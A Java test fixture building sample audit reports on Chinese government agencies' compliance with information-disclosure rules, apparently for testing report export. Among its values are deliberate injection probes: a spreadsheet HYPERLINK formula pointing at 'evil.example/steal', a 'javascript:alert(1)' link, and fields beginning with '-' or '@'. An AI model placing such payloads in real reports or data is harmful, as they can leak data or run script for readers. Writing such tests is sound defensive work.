package cn.gongkai.report;

import cn.gongkai.engine.audit.AgencyResult;
import cn.gongkai.engine.audit.AuditReport;
import cn.gongkai.engine.fact.Agency;
import cn.gongkai.engine.fact.AgencyType;
import cn.gongkai.engine.fact.Document;
import cn.gongkai.engine.fact.DocumentKind;
import cn.gongkai.engine.fact.Evidence;
import cn.gongkai.engine.fact.GuideField;
import cn.gongkai.engine.fact.SiteVisit;
import cn.gongkai.engine.rule.CheckMode;
import cn.gongkai.engine.rule.Finding;
import cn.gongkai.engine.rule.FindingStatus;
import cn.gongkai.engine.rule.PackItem;

import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;

/** Hand-built audit reports for the tests. */
final class SampleReports {

    static final Instant FETCHED = Instant.parse("2026-03-02T01:30:00Z");
    static final String LONG_NAME = "长沙市/望城区人民政府办公室政务公开和政府信息公开工作领导小组办公室";
    static final String FORMULA_EXPLANATION = "=HYPERLINK(\"http://evil.example/steal\",\"点击查看\")";
    static final String DASH_TITLE = "-政府信息公开工作年度报告按期发布";
    static final String GUIDE_URL = "http://www.hunan.gov.cn/xxgk/zn/index.html";
    static final String GUIDE_URL_2 = "https://www.hunan.gov.cn/xxgk/zn/2025.html";
    static final String SCRIPT_URL = "javascript:alert(1)";

    private SampleReports() {
    }

    /**
     * Three agencies: two tied at rank 1 (one with a long name containing "/", one with formula-like page text),
     * and an unreachable site with no score at rank 3.
     */
    static AuditReport threeAgencies() {
        Evidence guide = new Evidence(GUIDE_URL, FETCHED, "urn:uuid:0001", "政府信息公开指南");
        Evidence guide2 = new Evidence(GUIDE_URL_2, FETCHED, "urn:uuid:0002", "指南（2025年修订）");
        Evidence script = new Evidence(SCRIPT_URL, FETCHED, "urn:uuid:0003", "脚本链接");

        AgencyResult hunan = new AgencyResult(
                new Agency("湖南省数字政务示范厅", "http://www.hunan.gov.cn/", AgencyType.DEPARTMENT, "省"),
                new SiteVisit("http://www.hunan.gov.cn/", true, 42, 1, null),
                List.of(new Document(DocumentKind.DISCLOSURE_GUIDE, "政府信息公开指南", GUIDE_URL, FETCHED,
                        "urn:uuid:0001", 2025, LocalDate.of(2025, 1, 10), LocalDate.of(2025, 1, 8),
                        EnumSet.of(GuideField.PHONE, GuideField.CLASSIFICATION), false)),
                List.of(
                        new Finding("REG2019-12", "第12条", "政府信息公开指南", "政务公开平台建设", FindingStatus.MET,
                                40, 40, List.of(guide, guide2), "指南载明信息分类、获取方式和联系电话。"),
                        new Finding("REG2019-49", "第49条", "年度报告按期发布", "执行和结果公开", FindingStatus.PARTIAL,
                                50, 25, List.of(guide), "2025年度报告于4月2日发布，晚于3月31日。"),
                        new Finding("REG2019-20", "第20条", "主动公开目录", "决策公开", FindingStatus.NEEDS_REVIEW,
                                10, 7.5, List.of(), "需人工确认。")),
                72.5, 100, 1, 1);

        AgencyResult wangcheng = new AgencyResult(
                new Agency(LONG_NAME, "https://www.wangcheng.gov.cn/", AgencyType.GOVERNMENT, "区县"),
                new SiteVisit("https://www.wangcheng.gov.cn/", true, 10, 0, null),
                List.of(),
                List.of(
                        new Finding("REG2019-49", "第49条", DASH_TITLE, "执行和结果公开", FindingStatus.PARTIAL,
                                50, 25, List.of(script), FORMULA_EXPLANATION),
                        new Finding("REG2019-12", "第12条", "政府信息公开指南", "政务公开平台建设", FindingStatus.MET,
                                50, 47.5, List.of(new Evidence("https://www.wangcheng.gov.cn/zn.html", FETCHED,
                                "urn:uuid:0004", "指南")), "@指南内容齐全。"),
                        new Finding("HN2020-16", "(十六)", "三公经费", "管理服务公开", FindingStatus.NOT_APPLICABLE,
                                10, 0, List.of(), "不适用。")),
                72.5, 100, 1, 1);

        AgencyResult unreachable = new AgencyResult(
                new Agency("某某乡人民政府", "http://xiang.example.gov.cn/", AgencyType.GOVERNMENT, "乡镇"),
                new SiteVisit("http://xiang.example.gov.cn/", false, 0, 3, "连接超时"),
                List.of(),
                List.of(new Finding("REG2019-12", "第12条", "政府信息公开指南", "政务公开平台建设",
                        FindingStatus.MISSING, 100, 0, List.of(), "站点无法访问，未找到指南。")),
                0, 100, 3, 1);

        return new AuditReport("run-20260302-001", "cn-regulation-2019", "政府信息公开条例（2019）测评",
                "中华人民共和国政府信息公开条例（国务院令第711号）", LocalDate.of(2026, 3, 2),
                Instant.parse("2026-03-02T01:00:00Z"), List.of(hunan, wangcheng, unreachable));
    }

    /** The report with its pack's details: version 3, 部分符合 at half points, items taken from the findings. */
    static AuditReport withPack(AuditReport report) {
        java.util.Map<String, PackItem> items = new java.util.LinkedHashMap<>();
        for (AgencyResult a : report.agencies()) {
            for (Finding f : a.findings()) {
                items.putIfAbsent(f.rule(), new PackItem(f.rule(), f.item(), f.title(), f.area(),
                        f.status() == FindingStatus.NOT_APPLICABLE ? 10 : f.points(), CheckMode.AUTO,
                        "《条例》" + f.item() + "的规定。"));
            }
        }
        return new AuditReport(report.runId(), report.packId(), report.packTitle(), report.packSource(), report.asOf(),
                report.startedAt(), report.agencies(), "3", 0.5, List.copyOf(items.values()));
    }

    /** {@code count} agencies with seven findings each, every finding with one evidence page. */
    static AuditReport many(int count) {
        return many(count, 7);
    }

    /** {@code count} agencies with {@code itemCount} findings each in six areas, one evidence page per finding. */
    static AuditReport many(int count, int itemCount) {
        List<AgencyResult> agencies = new ArrayList<>(count);
        FindingStatus[] statuses = FindingStatus.values();
        for (int i = 0; i < count; i++) {
            String host = "http://site" + i + ".example.gov.cn/";
            List<Finding> findings = new ArrayList<>(itemCount);
            for (int f = 0; f < itemCount; f++) {
                findings.add(new Finding("R-" + f, "(" + (f + 1) + ")", "考察点" + f, "一级指标" + (f % 6), statuses[(f + i) % statuses.length],
                        10, 5, List.of(new Evidence(host + "page" + f + ".html", FETCHED, "urn:uuid:" + i + "-" + f,
                        "页面" + f)), "第" + f + "项的检查情况说明，内容较长以模拟真实的评估意见。"));
            }
            agencies.add(new AgencyResult(
                    new Agency("测试单位第" + i + "号人民政府办公室", host, AgencyType.GOVERNMENT, "区县"),
                    new SiteVisit(host, true, 30, 0, null), List.of(), findings, 5 * itemCount, 10 * itemCount, i + 1, i + 1));
        }
        return new AuditReport("run-big", "cn-regulation-2019", "测评", "条例", LocalDate.of(2026, 3, 2),
                Instant.parse("2026-03-02T01:00:00Z"), agencies);
    }
}
